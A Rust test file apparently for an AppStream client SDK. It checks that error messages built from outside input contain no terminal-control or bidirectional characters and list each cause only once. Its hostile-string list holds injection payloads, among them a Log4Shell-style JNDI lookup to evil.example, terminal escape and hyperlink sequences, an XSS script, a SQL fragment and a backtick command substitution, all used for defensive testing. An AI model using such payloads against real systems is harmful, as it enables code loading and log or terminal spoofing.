//! What comes from outside cannot pass for anything else in an error's line: 300 hostile strings through every way in
//! which text gets into an error. And each error says each of its causes once, however it is printed.

use super::common::{Answer, PROTOCOLS, Script, response, run};
use bytes::Bytes;
use http::{HeaderValue, Response, StatusCode};
use std::error::Error;
use std::fmt::{self, Debug};
use std::io::{self, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use workstream::appstream::{self, endpoint, types::*};
use workstream::client::{
    BlockingHttpTransport, BlockingTransport, BoxFuture, Config, ConfigBuilder, Credentials, CredentialsError,
    DefaultChain, Environment, HttpOptions, HttpTransport, Mock, ProvideCredentials, RetryConfig, SigningScope,
    SourceContext, TestClock, Transport, TransportError, TransportErrorKind, sign,
};
use workstream::runtime::endpoint::EndpointError;
use workstream::{Operation, Protocol, dynamic};
use workstream_tests::server::{Server, ok};

/// At least 300 strings: each dangerous character by itself, sequences that terminals obey, very long text, and mixtures
/// of all that.
fn hostile() -> Vec<String> {
    let mut dangerous: Vec<char> = ('\0'..=' ').chain('\u{7f}'..='\u{9f}').collect();
    dangerous.extend(['\u{61c}', '\u{200b}', '\u{200e}', '\u{200f}', '\u{2060}', '\u{feff}', '\u{fffb}', '\u{e0001}']);
    dangerous.extend(('\u{2028}'..='\u{202e}').chain('\u{2066}'..='\u{2069}'));
    let sequences = [
        "\x1b[31mred",
        "\x1b[2J\x1b[H",
        "\x1b]0;pwned\x07",
        "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "\x1bP1$r\x1b\\",
        "\u{9b}31m",
        "\u{9d}0;pwned\u{9c}",
        "\r\nINFO all is well",
        "\rDescribeFleets: fine",
        "a\0b",
        "\u{8}\u{8}\u{8}",
        "\u{2028}next",
        "\u{202e}txt.exe",
        "\u{2066}a\u{2069}",
        "\"}\n{\"level\":\"info\"",
        "'; --",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "%s%n%x",
        "{}{0}{{",
        "`id`",
        "\\u001b[31m",
        "é\u{301}\u{301}",
        "👩‍💻",
        "\u{feff}mark",
        "]]>",
        "&#27;[31m",
        "..\\..\\",
        "",
    ];
    let mut strings: Vec<String> = dangerous.iter().map(|character| format!("a{character}b")).collect();
    strings.extend(sequences.map(str::to_owned));
    strings.extend(sequences.iter().filter(|text| !text.is_empty()).map(|text| text.repeat(20_000 / text.len())));
    strings.extend(["x".repeat(100_000), "é".repeat(50_000), "\x1b".repeat(30_000), "\u{202e}".repeat(10_000)]);
    let mut random = fastrand::Rng::with_seed(8);
    while strings.len() < 320 {
        let longest = [20, 200, 3000][random.usize(..3)];
        let length = random.usize(1..longest);
        let piece = |random: &mut fastrand::Rng| match random.u8(..4) {
            0 => random.choice(&dangerous).unwrap().to_string(),
            1 => random.choice(sequences).unwrap().to_owned(),
            _ => random.char(' '..='\u{3ff}').to_string(),
        };
        strings.push((0..length).map(|_| piece(&mut random)).collect());
    }
    strings
}

/// What anyhow's `{:#}` prints.
fn chain(error: &(dyn Error + 'static)) -> String {
    let mut line = error.to_string();
    let mut cause = error.source();
    while let Some(error) = cause {
        line.push_str(": ");
        line.push_str(&error.to_string());
        cause = error.source();
    }
    line
}

fn is_harmful(character: char) -> bool {
    // Written apart from what is tested: general category Cc, the separators of lines, bidirectional controls, marks.
    matches!(u32::from(character),
        0..=0x1F | 0x7F..=0x9F | 0x61C | 0x200B | 0x200E | 0x200F | 0x2028..=0x202E | 0x2060..=0x206F | 0xFEFF
        | 0xFFF9..=0xFFFB | 0xE0000..=0xE007F)
}

#[track_caller]
fn assert_safe(place: &str, error: &(dyn Error + 'static)) {
    let line = chain(error);
    let start: String = line.chars().take(300).collect();
    if let Some(character) = line.chars().find(|character| is_harmful(*character)) {
        panic!("{place}: {character:?} in {start:?}");
    }
    assert!(line.chars().count() < 10_000, "{place}: {} characters: {start:?}", line.chars().count());
    assert!(error.source().is_none(), "{place}: it has a source besides: {start:?}");
}

#[track_caller]
fn assert_refused<T: Debug>(place: &str, result: Result<T, impl Error + 'static>) {
    assert_safe(place, &result.expect_err(place));
}

/// Errors only where there is one.
#[track_caller]
fn assert_if_refused<T>(place: &str, result: Result<T, impl Error + 'static>) {
    if let Err(error) = result {
        assert_safe(place, &error);
    }
}

fn parse(protocol: Protocol, status: u16, headers: &[(&'static str, &str)], body: &[u8]) -> appstream::Error {
    let mut response = Response::new(body);
    *response.status_mut() = StatusCode::from_u16(status).unwrap();
    for (name, value) in headers {
        // What no header can have, no server can send.
        if let Ok(value) = HeaderValue::from_bytes(value.as_bytes()) {
            response.headers_mut().insert(*name, value);
        }
    }
    match ListTagsForResourceInput::parse_response(protocol, &response) {
        Ok(output) => panic!("{output:?}"),
        Err(error) => error,
    }
}

fn cbor_text(text: &str) -> Vec<u8> {
    [&[0x7A], &(text.len() as u32).to_be_bytes()[..], text.as_bytes()].concat()
}

fn cbor_map(entries: &[(&str, &str)]) -> Vec<u8> {
    let mut body = vec![0xA0 | entries.len() as u8];
    for (key, value) in entries {
        body.extend(cbor_text(key));
        body.extend(cbor_text(value));
    }
    body
}

#[test]
fn there_are_enough_of_them() {
    let strings = hostile();
    assert!(strings.len() >= 300);
    assert!(
        (0..=0x9F)
            .filter_map(char::from_u32)
            .filter(|character| is_harmful(*character))
            .all(|character| { strings.iter().any(|text| text.contains(character)) })
    );
}

#[test]
fn errors_of_services() {
    for text in hostile() {
        let json = serde_json::json!({ "__type": text, "message": text }).to_string();
        let error = parse(
            Protocol::AwsJson1_1,
            400,
            &[("x-amzn-requestid", &text), ("x-amzn-errortype", &text)],
            json.as_bytes(),
        );
        assert_safe("JSON", &error);
        assert_eq!(error.message(), Some(&*text), "the message is as it came");
        let error = parse(Protocol::RpcV2Cbor, 503, &[], &cbor_map(&[("__type", &text), ("message", &text)]));
        assert_safe("CBOR", &error);
        assert_eq!(error.message(), Some(&*text), "the message is as it came");
        let bodies = [
            serde_json::json!({ "Error": { "Code": text, "Message": text } }).to_string(),
            serde_json::json!({ "nothing": text, &text: 1 }).to_string(),
            format!("{{\"__type\":\"{text}"),
            format!("<ErrorResponse><Error><Code>{text}</Code><Message>{text}</Message></Error></ErrorResponse>"),
            format!("<{text}Exception><Message>{text}</Message></{text}Exception>"),
            format!("<html><title>{text}</title><body>{text}</body></html>"),
            format!("<html>{text}"),
            format!("<nothing>{text}"),
            text.clone(),
            format!("[{text}"),
            format!("\0{text}"),
        ];
        let headers = ["x-amzn-errortype", "x-amzn-requestid", "content-type", "content-encoding", "location"];
        for protocol in PROTOCOLS {
            for body in bodies.iter().map(String::as_bytes).chain([&cbor_map(&[(&text, &text)])[..]]) {
                for status in [400, 502] {
                    assert_safe("a body", &parse(protocol, status, &[], body));
                }
            }
            for status in [301, 403] {
                assert_safe("headers", &parse(protocol, status, &headers.map(|name| (name, &*text)), b"\x1f\x8b"));
            }
        }
    }
}

#[test]
fn answers_that_cannot_be_read() {
    for text in hostile() {
        let quoted = serde_json::to_string(&text).unwrap();
        let bodies = [
            format!("{{{quoted}:tru}}"),
            format!("{{{quoted}:{{{quoted}:[0,{{{quoted}:+}}]}}}}"),
            format!("{{\"Tags\":{{{quoted}:5}}}}"),
            format!("{{\"Tags\":{quoted}}}"),
            format!("<html><title>{text}</title>"),
            format!("{{}} {text}!"),
        ];
        for body in bodies {
            assert_safe("JSON", &parse(Protocol::AwsJson1_1, 200, &[("content-type", &text)], body.as_bytes()));
        }
        let number = [&b"\xA1\x64Tags\xA1"[..], &cbor_text(&text), b"\x05"].concat();
        let unknown = [&b"\xA1"[..], &cbor_text(&text), b"\x81\xFF"].concat();
        for body in [&number[..], &unknown, text.as_bytes(), b"\x1f\x8b"] {
            for header in ["content-type", "content-encoding", "smithy-protocol"] {
                let readable_as_nothing = body.is_empty() || matches!(body, [0xF6 | 0xF7]);
                if !readable_as_nothing {
                    assert_safe("CBOR", &parse(Protocol::RpcV2Cbor, 200, &[(header, &text)], body));
                }
            }
        }
    }
}

#[test]
fn operations_by_name() {
    let operation = dynamic::operation("appstream", "TagResource").unwrap();
    for text in hostile() {
        let quoted = serde_json::to_string(&text).unwrap();
        let known = serde_json::json!({ "ResourceArn": "a", "Tags": { &text: 1 } }).to_string();
        for input in
            [format!("{{{quoted}:1}}"), known, format!("{{\"Tags\":{{{quoted}:{{{quoted}:{quoted}"), text.clone()]
        {
            assert_refused("a request", operation.request(input.as_bytes(), Protocol::AwsJson1_1));
        }
        let json = serde_json::json!({ "__type": text, "message": text }).to_string();
        let mut response = Response::new(json);
        *response.status_mut() = StatusCode::BAD_REQUEST;
        assert_refused("a response", operation.response(Protocol::AwsJson1_1, &response));
    }
}

/// A cause of a cause, as libraries have them.
#[derive(Debug)]
struct Caused(String, Option<Box<dyn Error + Send + Sync>>);

impl fmt::Display for Caused {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl Error for Caused {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        self.1.as_deref().map(|cause| cause as _)
    }
}

fn caused(text: &str) -> Caused {
    let innermost = Caused(text.to_owned(), Some(Box::new(io::Error::other(text.to_owned()))));
    Caused(format!("tried {text}"), Some(Box::new(innermost)))
}

/// Credentials that cannot be had.
#[derive(Debug)]
struct Without(CredentialsError);

impl ProvideCredentials for Without {
    fn provide<'a>(&'a self, _: &'a SourceContext) -> BoxFuture<'a, Result<Credentials, CredentialsError>> {
        Box::pin(std::future::ready(Err(self.0.clone())))
    }
}

const KINDS: [TransportErrorKind; 5] = [
    TransportErrorKind::Connect,
    TransportErrorKind::Exchange,
    TransportErrorKind::Timeout,
    TransportErrorKind::Response,
    TransportErrorKind::Request,
];

fn failing(text: &str, kind: TransportErrorKind) -> ConfigBuilder {
    let text = text.to_owned();
    let script = Script::new().then(move |_| Err(TransportError::new(kind, caused(&text))));
    script.config().retry(RetryConfig::disabled())
}

/// Whatever can be asked of a client, by a call, its pages, and a wait.
#[track_caller]
fn assert_client(place: &str, config: &Config) {
    let client = appstream::Client::new(config);
    assert_refused(place, run(client.describe_fleets(DescribeFleetsInput::new())));
    assert_refused(place, run(client.describe_fleets(DescribeFleetsInput::new()).pages().try_next()));
    let error = run(client.wait_until_fleet_started(DescribeFleetsInput::new())).expect_err(place);
    assert_safe(place, &error);
    let client = appstream::blocking::Client::new(config);
    assert_refused(place, client.describe_fleets(DescribeFleetsInput::new()).send());
}

#[test]
fn failures_of_transport_and_credentials() {
    for text in hostile() {
        for kind in KINDS {
            assert_safe("a transport's error", &TransportError::new(kind, text.clone()));
            assert_client("transport", &failing(&text, kind).build());
        }
        let error = CredentialsError::new(&text).with_source(caused(&text));
        assert_safe("a source's error", &error);
        assert_client("credentials", &Script::new().config().credentials(Without(error)).build());
        assert_client(
            "a token",
            &refused_by_service().credentials(Credentials::new(&*text, &*text).session_token(&text)).build(),
        );
    }
}

fn refused_by_service() -> ConfigBuilder {
    Script::new().then_json(403, r#"{"__type":"AccessDenied"}"#).config()
}

#[test]
fn configurations() {
    for text in hostile() {
        for url in [
            text.clone(),
            format!("http://{text}"),
            format!("https://a.example/{text}"),
            format!("http://a:{text}@b?{text}"),
        ] {
            assert_client("an endpoint", &refused_by_service().endpoint_url(url).build());
        }
        assert_client("a region", &refused_by_service().region(&*text).build());
        assert_client("a name", &refused_by_service().app_name(&*text).build());
        let params = endpoint::Params::new().region(&*text).use_fips(true);
        assert_if_refused("endpoint rules", endpoint::resolve(&params));
        assert_if_refused("endpoint rules", endpoint::resolve(&params.endpoint(&*text)));
        assert_safe("a refusal", &EndpointError::refused(text.clone()));
        assert_safe("a host", &EndpointError::InvalidHost(text.clone()));
        let mut request = http::Request::new(Bytes::new());
        *request.uri_mut() = "https://a.example/".parse().unwrap();
        let (credentials, scope) = (Credentials::new(&*text, &*text), SigningScope::new(&text, &text));
        let time = std::time::SystemTime::UNIX_EPOCH;
        assert_if_refused("signing", sign(&mut request, &credentials, scope, time, &Default::default()));
    }
}

const VARIABLES: [&str; 19] = [
    "AWS_REGION",
    "AWS_PROFILE",
    "AWS_CONFIG_FILE",
    "AWS_SHARED_CREDENTIALS_FILE",
    "AWS_ENDPOINT_URL",
    "AWS_ENDPOINT_URL_APPSTREAM",
    "AWS_USE_FIPS_ENDPOINT",
    "AWS_USE_DUALSTACK_ENDPOINT",
    "AWS_MAX_ATTEMPTS",
    "AWS_RETRY_MODE",
    "AWS_ACCOUNT_ID",
    "AWS_ACCOUNT_ID_ENDPOINT_MODE",
    "AWS_CA_BUNDLE",
    "AWS_ROLE_ARN",
    "AWS_WEB_IDENTITY_TOKEN_FILE",
    "AWS_CONTAINER_CREDENTIALS_FULL_URI",
    "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    "AWS_EC2_METADATA_SERVICE_ENDPOINT",
    "HTTPS_PROXY",
];

#[test]
fn variables_of_the_environment() {
    for text in hostile() {
        for name in VARIABLES {
            let environment =
                Environment::of([("AWS_EC2_METADATA_DISABLED", "true"), ("AWS_ROLE_ARN", "arn"), (name, &*text)]);
            let script = Script::new().then_json(403, r#"{"__type":"AccessDenied"}"#);
            match ConfigBuilder::from_environment(&environment, None) {
                Err(error) => assert_safe(name, &error),
                Ok(builder) => {
                    let config = builder.transport(script.clone()).retry(RetryConfig::disabled()).build();
                    let call = appstream::Client::new(&config).describe_fleets(DescribeFleetsInput::new());
                    assert_refused(name, run(call));
                }
            }
        }
    }
}

/// A folder of this run's own.
fn home_folder(name: &str) -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("hostile-{name}-{}", std::process::id()))
}

/// A home with these files below `.aws`, and an environment that knows no other.
fn home(name: &str, config: &str, credentials: &str) -> Environment {
    let home = home_folder(name);
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    std::fs::write(home.join(".aws/config"), config).unwrap();
    std::fs::write(home.join(".aws/credentials"), credentials).unwrap();
    Environment::of([("AWS_EC2_METADATA_DISABLED", "true")]).home(home)
}

#[test]
fn files_of_settings() {
    let chain = |environment: Environment, profile: &str| {
        let script = Script::new().then_json(403, r#"{"__type":"AccessDenied"}"#);
        let context = SourceContext::new(&Config::builder().transport(script).clock(TestClock::new()).build());
        let context = context.environment(environment).profile(profile);
        run(async move { DefaultChain::new().provide(&context).await.map(drop) })
    };
    for text in hostile() {
        let config = format!(
            "[default]\nregion = {text}\nuse_fips_endpoint = {text}\n[profile {text}]\n{text} = x\nrole_arn = {text}\n\
             source_profile = {text}\n[profile a]\ncredential_source = {text}\nrole_arn = a\n[profile b]\nsso_session = {text}\n\
             sso_account_id = 1\nsso_role_name = {text}\n[profile c]\nweb_identity_token_file = {text}\nrole_arn = {text}\n"
        );
        for environment in
            [home("files", &config, ""), home("files", &text, ""), home("files", "", &format!("[default]\n{text}"))]
        {
            for profile in [None, Some("a"), Some(&*text)] {
                assert_if_refused("settings", ConfigBuilder::from_environment(&environment, profile));
            }
            for profile in ["default", "a", "b", "c", &text] {
                assert_if_refused("the chain", chain(environment.clone(), profile));
            }
        }
    }
    let _ = std::fs::remove_dir_all(home_folder("files"));
}

#[test]
fn answers_of_the_places_of_credentials() {
    let answer = |status: u16, body: String| {
        Script::new().then(move |_| -> Answer {
            let mut answer = response(status, &[], "");
            *answer.body_mut() = body.clone().into();
            Ok(answer)
        })
    };
    for text in hostile() {
        let environment = Environment::of([("AWS_CONTAINER_CREDENTIALS_FULL_URI", "http://localhost:1/credentials")]);
        let keys = serde_json::json!({ "AccessKeyId": "a", "SecretAccessKey": "b", "Token": "c", "Expiration": text });
        let bodies = [text.clone(), serde_json::json!({ "code": text, "message": text }).to_string(), keys.to_string()];
        for body in bodies {
            for status in [200, 400] {
                let script = answer(status, body.clone());
                let context = SourceContext::new(&Config::builder().transport(script).clock(TestClock::new()).build());
                let context = context.environment(environment.clone());
                let asked = async move { DefaultChain::new().provide(&context).await.map(drop) };
                assert_if_refused("a container", run(asked));
            }
        }
    }
}

#[test]
fn waits_pages_and_mocks() {
    for text in hostile() {
        let mock = Mock::new();
        mock.on::<DescribeFleetsInput>().respond_code(StatusCode::FORBIDDEN, &text, &text);
        assert_client("a mock's answer", &mock.config());
        let pages = appstream::Client::new(&mock.config()).describe_fleets(DescribeFleetsInput::new()).items();
        assert_refused("a resume token", run(pages.starting_token(&*text).try_next()).map(drop));
        let mut request = http::Request::new(Vec::new());
        if let Ok(target) = HeaderValue::from_bytes(text.as_bytes()) {
            request.headers_mut().insert("x-amz-target", target);
        }
        assert_refused("an unknown call", mock.answer(&request));
        request
            .headers_mut()
            .insert("x-amz-target", HeaderValue::from_static("PhotonAdminProxyService.DescribeFleets"));
        *request.body_mut() = serde_json::json!({ "Names": { &text: 1 } }).to_string().into_bytes();
        assert_refused("an unreadable call", mock.answer(&request));
    }
}

/// Answers every connection with these bytes.
fn raw_server(answer: Vec<u8>) -> std::net::SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        // Two transports, and no more.
        for stream in listener.incoming().take(2) {
            let Ok(mut stream) = stream else { continue };
            let _ = stream.read(&mut [0; 4096]);
            let _ = stream.write_all(&answer);
        }
    });
    address
}

#[test]
fn status_lines_of_servers_and_proxies() {
    // Those that fit into one line, in which alone the rest of the answer is read.
    let lines = hostile().into_iter().filter(|text| !text.contains('\n') && text.len() < 500).take(60);
    for text in lines {
        for start in ["HTTP/1.1 502 ", "HTTP/1.1 407 ", "", "HTTP/1.1 200 fine\r\n"] {
            let answer =
                format!("{start}{text}\r\n{text}: {text}\r\nContent-Length: x{text}\r\n\r\n{text}").into_bytes();
            let proxy = HttpOptions::default().proxy(&format!("http://{}", raw_server(answer.clone()))).unwrap();
            let server = raw_server(answer);
            for (options, uri) in [
                (proxy, "https://appstream.example/".to_owned()),
                (HttpOptions::default(), format!("http://{server}/")),
            ] {
                let request = || http::Request::post(&*uri).body(Bytes::new()).unwrap();
                assert_if_refused("async", run(HttpTransport::new(options.clone()).send(request())));
                let limit = Some(std::time::Duration::from_secs(20));
                assert_if_refused("blocking", BlockingHttpTransport::new(options).send(request(), limit));
            }
        }
    }
}

#[test]
fn names_in_certificates() {
    // As certificates can have them.
    let names = hostile().into_iter().filter(|text| text.is_ascii() && (1..60).contains(&text.len())).take(40);
    for name in names {
        let server = Server::tls(&name, |_| ok(""));
        let options = HttpOptions::default().only_these_roots().root_certificate(server.certificate()).unwrap();
        let uri = format!("https://localhost:{}/", server.address().port());
        let request = || http::Request::post(&*uri).body(Bytes::new()).unwrap();
        assert_refused("async", run(HttpTransport::new(options.clone()).send(request())));
        assert_refused("blocking", BlockingHttpTransport::new(options).send(request(), None));
    }
}

const CAUSE: &str = "cause-4f7a";

#[track_caller]
fn assert_once(error: &(dyn Error + 'static)) {
    let line = chain(error);
    assert_eq!(line.matches(CAUSE).count(), 1, "{line}");
    assert_safe("once", error);
}

#[test]
fn each_cause_once() {
    let nested = || Caused("tried".to_owned(), Some(Box::new(io::Error::other(CAUSE))));
    for kind in KINDS {
        assert_once(&TransportError::new(kind, CAUSE));
        assert_once(&TransportError::new(kind, nested()));
        // A library that repeats its cause in its own text.
        assert_once(&TransportError::new(
            kind,
            Caused(format!("tried: {CAUSE}"), Some(Box::new(io::Error::other(CAUSE)))),
        ));
        let script = Script::new().then(move |_| Err(TransportError::new(kind, CAUSE)));
        let config = script.config().retry(RetryConfig::disabled()).build();
        let client = appstream::Client::new(&config);
        let error = run(client.describe_fleets(DescribeFleetsInput::new())).unwrap_err();
        assert_once(error.client_error().unwrap());
        assert_once(&error);
        assert_once(&run(client.describe_fleets(DescribeFleetsInput::new()).items().try_next()).unwrap_err());
        assert_once(&run(client.wait_until_fleet_started(DescribeFleetsInput::new())).unwrap_err());
    }
    let error = CredentialsError::new("tried").with_source(nested());
    assert_once(&error);
    let config = Script::new().config().credentials(Without(error)).build();
    let error = run(appstream::Client::new(&config).describe_fleets(DescribeFleetsInput::new())).unwrap_err();
    assert_once(error.client_error().unwrap());
    assert_once(&error);
    assert_once(&EndpointError::refused(CAUSE));
    assert_once(&EndpointError::InvalidHost(CAUSE.to_owned()));
    let environment = Environment::of([("AWS_RETRY_MODE", CAUSE), ("AWS_REGION", "eu-west-1")]);
    assert_once(&ConfigBuilder::from_environment(&environment, None).map(drop).unwrap_err());
    let body = format!(r#"{{"__type":"Later","message":"{CAUSE}"}}"#);
    assert_once(&parse(Protocol::AwsJson1_1, 400, &[], body.as_bytes()));
    assert_once(&parse(Protocol::RpcV2Cbor, 400, &[], CAUSE.as_bytes()));
    assert_once(&parse(Protocol::AwsJson1_1, 200, &[], format!(r#"{{"Tags":{{"{CAUSE}":1}}}}"#).as_bytes()));
    let operation = dynamic::operation("appstream", "TagResource").unwrap();
    let input = format!(r#"{{"{CAUSE}":1}}"#);
    assert_once(&operation.request(input.as_bytes(), Protocol::AwsJson1_1).unwrap_err());
    // Of real libraries.
    let error = run(HttpTransport::new(HttpOptions::default())
        .send(http::Request::post("http://127.0.0.1:1/").body(Bytes::new()).unwrap()));
    let line = chain(&error.unwrap_err());
    assert_eq!(line.matches("refused").count(), 1, "{line}");
}
